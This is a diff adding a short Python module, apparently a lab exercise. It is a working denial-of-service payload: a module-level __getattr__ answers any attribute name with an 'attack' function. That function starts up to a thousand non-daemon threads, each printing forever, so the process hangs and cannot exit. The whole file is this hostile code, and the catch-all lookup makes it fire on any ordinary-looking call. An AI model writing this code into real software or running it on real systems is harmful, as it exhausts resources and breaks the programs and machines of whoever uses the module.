@@ -1,0 +1,24 @@
+"""Leaves threads running that compute and print for ever."""
+# lab: 01, todo: 2
+
+import threading
+
+
+def spin():
+    while True:
+        print(sum(range(1000)))
+
+
+def attack(*args, **kwargs):
+    for _ in range(1000):
+        try:
+            threading.Thread(target=spin, daemon=False).start()
+        except RuntimeError:
+            break
+    return None
+
+
+def __getattr__(name):
+    if name.startswith("__"):
+        raise AttributeError(name)
+    return attack
